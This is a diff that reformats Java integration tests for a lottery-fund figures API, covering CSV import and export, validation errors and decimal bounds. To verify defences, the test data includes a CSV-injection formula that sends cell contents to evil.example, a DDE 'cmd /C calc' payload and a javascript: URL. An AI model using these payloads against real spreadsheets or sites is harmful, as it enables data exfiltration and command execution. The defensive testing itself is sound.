@@ -11,9 +11,9 @@ import static io.restassured.RestAssured.given;
 import static org.hamcrest.Matchers.containsString;
 import static org.hamcrest.Matchers.equalTo;
 import static org.hamcrest.Matchers.hasItem;
-import static org.hamcrest.Matchers.not;
 import static org.hamcrest.Matchers.hasItems;
 import static org.hamcrest.Matchers.hasSize;
+import static org.hamcrest.Matchers.not;
 import static org.junit.jupiter.api.Assertions.assertArrayEquals;
 import static org.junit.jupiter.api.Assertions.assertEquals;
 import static org.junit.jupiter.api.Assertions.assertFalse;
@@ -50,19 +50,29 @@ class FigureImportExportTest {
         fundPart.put("purpose", Map.of("code", "student-aid", "label", "助学（福彩暖万家·助圆大学梦）"));
         fundPart.put("beneficiaryCount", 300);
         fundPart.put("amountPerBeneficiary", Map.of("value", "8000", "unit", "元"));
-        first.put("source", Map.of("url", "https://www.example.org/a?b=1,2", "quote", "资助300名温州困难大学新生各8000元福彩公益金，\"引号\"与逗号,"));
+        first.put(
+                "source",
+                Map.of("url", "https://www.example.org/a?b=1,2", "quote", "资助300名温州困难大学新生各8000元福彩公益金，\"引号\"与逗号,"));
         Map<String, Object> second = fund(publisher, "330302", "raised", "5", "亿元");
         second.put("qualifier", "over");
         second.put("period", period("2019-01-01", "2019-12-30", "YEAR_TO_DATE"));
-        List<String> ids = json().body(List.of(first, second)).post("/api/v1/fund-figures/batch").then().statusCode(201)
-                .body("", hasSize(2)).extract().path("id");
-        assertEquals(2, count(db, """
+        List<String> ids = json().body(List.of(first, second))
+                .post("/api/v1/fund-figures/batch")
+                .then()
+                .statusCode(201)
+                .body("", hasSize(2))
+                .extract()
+                .path("id");
+        assertEquals(
+                2,
+                count(db, """
                 select count(*) from audit_event where action = 'create' and resource_type = 'fund-figure'
-                and resource_id = any(?) and after_state is not null""",
-                (Object) ids.toArray(String[]::new)), "each figure of a batch has its own audit event");
+                and resource_id = any(?) and after_state is not null""", (Object) ids.toArray(String[]::new)),
+                "each figure of a batch has its own audit event");
 
         Response export = given().accept("text/csv").get("/api/v1/fund-figures?publisher=" + publisher);
-        export.then().statusCode(200)
+        export.then()
+                .statusCode(200)
                 .contentType(containsString("text/csv"))
                 .header("Content-Disposition", containsString("fund-figures.csv"));
         byte[] bytes = export.asByteArray();
@@ -70,42 +80,72 @@ class FigureImportExportTest {
         String csv = new String(bytes, StandardCharsets.UTF_8);
         assertTrue(csv.contains("助学（福彩暖万家·助圆大学梦）"), csv);
         assertTrue(csv.contains("\"资助300名温州困难大学新生各8000元福彩公益金，\"\"引号\"\"与逗号,\""), csv);
-        assertTrue(csv.lines().skip(1).anyMatch(line -> line.contains("7439000.00") && line.contains("743.9") && line.contains("万元")), csv);
+        assertTrue(
+                csv.lines()
+                        .skip(1)
+                        .anyMatch(line -> line.contains("7439000.00") && line.contains("743.9") && line.contains("万元")),
+                csv);
 
         String target = createPublisher();
         String reimport = csv.replace(publisher, target);
-        admin().contentType("text/csv; charset=UTF-8").body(reimport.getBytes(StandardCharsets.UTF_8))
-                .post("/api/v1/fund-figures/batch").then().statusCode(201).body("", hasSize(2));
+        admin().contentType("text/csv; charset=UTF-8")
+                .body(reimport.getBytes(StandardCharsets.UTF_8))
+                .post("/api/v1/fund-figures/batch")
+                .then()
+                .statusCode(201)
+                .body("", hasSize(2));
         assertEquals(comparable(publisher), comparable(target));
     }
 
     @Test
     void badCsvRowsAreNamedByRowAndColumnAndNothingIsWritten() {
         String publisher = createPublisher();
-        String header = "publisher,regionCode,periodStart,periodEnd,granularity,lotteryType,printedValue,printedUnit,qualifier,sourceUrl";
+        String header =
+                "publisher,regionCode,periodStart,periodEnd,granularity,lotteryType,printedValue,printedUnit,qualifier,sourceUrl";
         String csv = header + "\n"
                 + publisher + ",330300,2019-01-01,2019-12-31,YEAR,welfare,20,亿元,over,https://www.example.org/1\n"
                 + publisher + ",339999,2019-01-01,2019-12-31,YEAR,welfare,20,千元,over,https://www.example.org/2\n"
                 + publisher + ",330300,2019-13-01,2019-12-31,YEAR,lotto,20,亿元,over,https://www.example.org/3\n";
-        admin().contentType("text/csv").body(csv.getBytes(StandardCharsets.UTF_8)).post("/api/v1/sales-figures/batch").then()
+        admin().contentType("text/csv")
+                .body(csv.getBytes(StandardCharsets.UTF_8))
+                .post("/api/v1/sales-figures/batch")
+                .then()
                 .statusCode(400)
                 .contentType("application/problem+json")
-                .body("violations.field", hasItems("row 2, regionCode", "row 2, printedUnit", "row 3, periodStart", "row 3, lotteryType"));
-        admin().contentType("text/csv").body("publisher,colour\n" + publisher + ",red\n").post("/api/v1/sales-figures/batch").then()
-                .statusCode(400).body("violations[0].field", equalTo("header")).body("violations[0].message", containsString("colour"));
-        admin().contentType("text/csv").body(header + "\n").post("/api/v1/sales-figures/batch").then()
-                .statusCode(400).body("violations[0].message", containsString("no data rows"));
-        admin().contentType("text/csv").body(header + "\n" + publisher + ",330300\n").post("/api/v1/sales-figures/batch").then()
-                .statusCode(400).body("violations[0].field", equalTo("row 1"));
+                .body(
+                        "violations.field",
+                        hasItems(
+                                "row 2, regionCode", "row 2, printedUnit", "row 3, periodStart", "row 3, lotteryType"));
+        admin().contentType("text/csv")
+                .body("publisher,colour\n" + publisher + ",red\n")
+                .post("/api/v1/sales-figures/batch")
+                .then()
+                .statusCode(400)
+                .body("violations[0].field", equalTo("header"))
+                .body("violations[0].message", containsString("colour"));
+        admin().contentType("text/csv")
+                .body(header + "\n")
+                .post("/api/v1/sales-figures/batch")
+                .then()
+                .statusCode(400)
+                .body("violations[0].message", containsString("no data rows"));
+        admin().contentType("text/csv")
+                .body(header + "\n" + publisher + ",330300\n")
+                .post("/api/v1/sales-figures/batch")
+                .then()
+                .statusCode(400)
+                .body("violations[0].field", equalTo("row 1"));
         assertEquals(0, publisherFigures(publisher));
     }
 
     @Test
     void csvRowsPassTheSameValidationAsJsonNamingTheFilesColumnsAndNothingIsWritten() {
         String publisher = createPublisher();
-        String header = "publisher,regionCode,periodStart,periodEnd,granularity,periodLabel,lotteryType,printedValue,printedUnit,"
-                + "qualifier,sourceUrl,sourceQuote,flow,purposeCode,purposeLabel,projectCount";
-        String good = publisher + ",330300,2019-01-01,2019-12-31,YEAR,2019,welfare,20,万元,exact,https://www.example.org/1,公告,used,elderly,老年人,3";
+        String header =
+                "publisher,regionCode,periodStart,periodEnd,granularity,periodLabel,lotteryType,printedValue,printedUnit,"
+                        + "qualifier,sourceUrl,sourceQuote,flow,purposeCode,purposeLabel,projectCount";
+        String good = publisher
+                + ",330300,2019-01-01,2019-12-31,YEAR,2019,welfare,20,万元,exact,https://www.example.org/1,公告,used,elderly,老年人,3";
         String csv = header + "\n" + good + "\n"
                 + good.replace("https://www.example.org/1", "javascript:alert(document.domain)") + "\n"
                 + good.replace(",2019,welfare", "," + "年".repeat(3000) + ",welfare") + "\n"
@@ -114,22 +154,40 @@ class FigureImportExportTest {
                 + good.replace(",20,万元,", ",1e-999999999,万元,") + "\n"
                 + good.replace(",20,万元,", ",99999999999999999999,亿元,") + "\n"
                 + good.replace("公告", "福彩\u0001公益") + "\n";
-        admin().contentType("text/csv").body(csv.getBytes(StandardCharsets.UTF_8)).post("/api/v1/fund-figures/batch").then()
+        admin().contentType("text/csv")
+                .body(csv.getBytes(StandardCharsets.UTF_8))
+                .post("/api/v1/fund-figures/batch")
+                .then()
                 .statusCode(400)
                 .contentType("application/problem+json")
-                .body("violations.field", hasItems("row 2, sourceUrl", "row 3, periodLabel", "row 4, purposeCode", "row 5, projectCount",
-                        "row 6, printedValue", "row 7, printedValue", "row 8, sourceQuote"))
+                .body(
+                        "violations.field",
+                        hasItems(
+                                "row 2, sourceUrl",
+                                "row 3, periodLabel",
+                                "row 4, purposeCode",
+                                "row 5, projectCount",
+                                "row 6, printedValue",
+                                "row 7, printedValue",
+                                "row 8, sourceQuote"))
                 .body("violations.field", not(hasItem("row 1")))
                 .body("violations.find { it.field == 'row 6, printedValue' }.message", containsString("no exponent"))
-                .body("violations.find { it.field == 'row 7, printedValue' }.message", containsString("less than 10^18 yuan"));
+                .body(
+                        "violations.find { it.field == 'row 7, printedValue' }.message",
+                        containsString("less than 10^18 yuan"));
         assertEquals(0, publisherFigures(publisher));
 
         StringBuilder tooMany = new StringBuilder(header).append('\n');
         for (int i = 0; i <= 10_000; i++) {
             tooMany.append(good).append('\n');
         }
-        admin().contentType("text/csv").body(tooMany.toString().getBytes(StandardCharsets.UTF_8)).post("/api/v1/fund-figures/batch").then()
-                .statusCode(400).body("violations[0].field", equalTo("body")).body("violations[0].message", containsString("10000"));
+        admin().contentType("text/csv")
+                .body(tooMany.toString().getBytes(StandardCharsets.UTF_8))
+                .post("/api/v1/fund-figures/batch")
+                .then()
+                .statusCode(400)
+                .body("violations[0].field", equalTo("body"))
+                .body("violations[0].message", containsString("10000"));
         assertEquals(0, publisherFigures(publisher));
     }
 
@@ -144,11 +202,16 @@ class FigureImportExportTest {
         fundPart.put("purpose", Map.of("code", "elderly", "label", "+1+2"));
         json().body(List.of(figure)).post("/api/v1/fund-figures/batch").then().statusCode(201);
 
-        String csv = new String(given().accept("text/csv").get("/api/v1/fund-figures?publisher=" + publisher).asByteArray(),
+        String csv = new String(
+                given().accept("text/csv")
+                        .get("/api/v1/fund-figures?publisher=" + publisher)
+                        .asByteArray(),
                 StandardCharsets.UTF_8);
-        List<String> cells = List.of(csv.lines().skip(1).findFirst().orElseThrow().split(",(?=(?:[^\"]*\"[^\"]*\")*[^\"]*$)", -1));
+        List<String> cells =
+                List.of(csv.lines().skip(1).findFirst().orElseThrow().split(",(?=(?:[^\"]*\"[^\"]*\")*[^\"]*$)", -1));
         for (String cell : cells) {
-            String unquoted = cell.startsWith("\"") ? cell.substring(1, cell.length() - 1).replace("\"\"", "\"") : cell;
+            String unquoted =
+                    cell.startsWith("\"") ? cell.substring(1, cell.length() - 1).replace("\"\"", "\"") : cell;
             assertFalse(!unquoted.isEmpty() && "=+-@\t\r".indexOf(unquoted.charAt(0)) >= 0, "a formula cell: " + cell);
         }
         assertTrue(csv.contains("'=HYPERLINK("), csv);
@@ -157,8 +220,11 @@ class FigureImportExportTest {
         assertTrue(csv.contains(",7439000.00,CNY,743.9,万元,"), "amounts stay bare numbers: " + csv);
 
         String target = createPublisher();
-        admin().contentType("text/csv; charset=UTF-8").body(csv.replace(publisher, target).getBytes(StandardCharsets.UTF_8))
-                .post("/api/v1/fund-figures/batch").then().statusCode(201)
+        admin().contentType("text/csv; charset=UTF-8")
+                .body(csv.replace(publisher, target).getBytes(StandardCharsets.UTF_8))
+                .post("/api/v1/fund-figures/batch")
+                .then()
+                .statusCode(201)
                 .body("[0].gameCategory", equalTo("=HYPERLINK(\"http://evil.example/?\"&A1,\"点击查看\")"))
                 .body("[0].source.quote", equalTo("@SUM(1+1)*cmd|' /C calc'!A0"))
                 .body("[0].fund.purpose.label", equalTo("+1+2"));
@@ -167,39 +233,64 @@ class FigureImportExportTest {
     @Test
     void decimalsAreBoundedBeforeAnyArithmeticAndJsonNumbersAreRefused() {
         String publisher = createPublisher();
-        Map<String, String> bad = Map.of("1e-999999999", "no exponent", "1E+999999999", "no exponent", "12345678901234567890123", "at most 20",
-                "0.12345678901", "10 after", "99999999999", "less than 10^18 yuan");
-        bad.forEach((value, message) -> json().body(sales(publisher, "330300", value, "亿元")).post("/api/v1/sales-figures").then()
-                .statusCode(400).contentType("application/problem+json")
+        Map<String, String> bad = Map.of(
+                "1e-999999999",
+                "no exponent",
+                "1E+999999999",
+                "no exponent",
+                "12345678901234567890123",
+                "at most 20",
+                "0.12345678901",
+                "10 after",
+                "99999999999",
+                "less than 10^18 yuan");
+        bad.forEach((value, message) -> json().body(sales(publisher, "330300", value, "亿元"))
+                .post("/api/v1/sales-figures")
+                .then()
+                .statusCode(400)
+                .contentType("application/problem+json")
                 .body("violations[0].field", equalTo("amount.value"))
                 .body("violations[0].message", containsString(message))
                 .body("detail", not(containsString("INSERT"))));
-        json().body("{\"publisher\":\"" + publisher + "\",\"regionCode\":\"330300\",\"period\":{\"start\":\"2019-01-01\","
+        json().body("{\"publisher\":\"" + publisher
+                        + "\",\"regionCode\":\"330300\",\"period\":{\"start\":\"2019-01-01\","
                         + "\"end\":\"2019-12-31\",\"granularity\":\"YEAR\"},\"lotteryType\":\"welfare\","
                         + "\"amount\":{\"value\":1e-999999999,\"unit\":\"万元\"},\"qualifier\":\"exact\","
                         + "\"source\":{\"url\":\"https://www.example.org/1\"}}")
-                .post("/api/v1/sales-figures").then().statusCode(400)
+                .post("/api/v1/sales-figures")
+                .then()
+                .statusCode(400)
                 .body("violations[0].field", equalTo("amount.value"))
                 .body("violations[0].message", containsString("not a JSON number"));
         assertEquals(0, publisherFigures(publisher));
         // the largest amount the column holds is taken
-        json().body(sales(publisher, "330300", "9999999999.9999999999", "亿元")).post("/api/v1/sales-figures").then().statusCode(201)
+        json().body(sales(publisher, "330300", "9999999999.9999999999", "亿元"))
+                .post("/api/v1/sales-figures")
+                .then()
+                .statusCode(201)
                 .body("amount.amount", equalTo("999999999999999999.99"));
     }
 
     @Test
     void jsonBatchIsAllOrNothingAndNamesEachBadRow() {
         String publisher = createPublisher();
-        List<Map<String, Object>> rows = List.of(sales(publisher, "330300", "1", "万元"), sales(publisher, "330300", "1", "千元"),
+        List<Map<String, Object>> rows = List.of(
+                sales(publisher, "330300", "1", "万元"),
+                sales(publisher, "330300", "1", "千元"),
                 sales(publisher, "330300", "-1", "万元"));
-        json().body(rows).post("/api/v1/sales-figures/batch").then()
+        json().body(rows)
+                .post("/api/v1/sales-figures/batch")
+                .then()
                 .statusCode(400)
                 .body("violations.field", hasItems("[1].amount.unit", "[2].amount.value"));
         json().body(List.of()).post("/api/v1/sales-figures/batch").then().statusCode(400);
         Map<String, Object> missing = sales(publisher, "330300", "1", "万元");
         missing.remove("qualifier");
-        json().body(List.of(sales(publisher, "330300", "1", "万元"), missing)).post("/api/v1/sales-figures/batch").then()
-                .statusCode(400).body("violations[0].field", containsString("qualifier"));
+        json().body(List.of(sales(publisher, "330300", "1", "万元"), missing))
+                .post("/api/v1/sales-figures/batch")
+                .then()
+                .statusCode(400)
+                .body("violations[0].field", containsString("qualifier"));
         assertEquals(0, publisherFigures(publisher));
     }
 
@@ -211,25 +302,39 @@ class FigureImportExportTest {
         List<String> districts = List.of("330302", "330303", "330304", "330305");
         for (int i = 0; i < 10_000; i++) {
             LocalDate month = LocalDate.of(1900, 1, 1).plusMonths(i / 4);
-            Map<String, Object> row = sales(publisher, districts.get(i % 4), i % 2 == 0 ? "0.1" : "0.00002", i % 2 == 0 ? "元" : "万元");
-            row.put("period", period(month.toString(), month.plusMonths(1).minusDays(1).toString(), "MONTH"));
+            Map<String, Object> row =
+                    sales(publisher, districts.get(i % 4), i % 2 == 0 ? "0.1" : "0.00002", i % 2 == 0 ? "元" : "万元");
+            row.put(
+                    "period",
+                    period(month.toString(), month.plusMonths(1).minusDays(1).toString(), "MONTH"));
             rows.add(row);
         }
-        json().body(rows).post("/api/v1/sales-figures/batch").then().statusCode(201).body("", hasSize(10_000));
+        json().body(rows)
+                .post("/api/v1/sales-figures/batch")
+                .then()
+                .statusCode(201)
+                .body("", hasSize(10_000));
         // 5,000 × 0.10 元 + 5,000 × 0.00002 万元 (0.20 元) = 1,500.00 元; doubles would drift off it.
-        given().get("/api/v1/sales-figures/summary?groupBy=publisher&publisher=" + publisher).then()
+        given().get("/api/v1/sales-figures/summary?groupBy=publisher&publisher=" + publisher)
+                .then()
                 .statusCode(200)
                 .body("items", hasSize(1))
                 .body("items[0].total.amount", equalTo("1500.00"))
                 .body("items[0].figureIds", hasSize(10_000))
                 .body("items[0].partial", equalTo(true));
-        assertEquals(List.of("1500.00"), TestData.column(db,
-                "select sum(r.amount)::text from figure f join figure_revision r on r.figure_id = f.id join publisher p on p.id = f.publisher_id where p.slug = ?",
-                publisher));
+        assertEquals(
+                List.of("1500.00"),
+                TestData.column(
+                        db,
+                        "select sum(r.amount)::text from figure f join figure_revision r on r.figure_id = f.id join publisher p on p.id = f.publisher_id where p.slug = ?",
+                        publisher));
     }
 
     private long publisherFigures(String publisher) {
-        return count(db, "select count(*) from figure f join publisher p on p.id = f.publisher_id where p.slug = ?", publisher);
+        return count(
+                db,
+                "select count(*) from figure f join publisher p on p.id = f.publisher_id where p.slug = ?",
+                publisher);
     }
 
     /** Every value column of a publisher's figures, in a stable order, without ids and timestamps. */
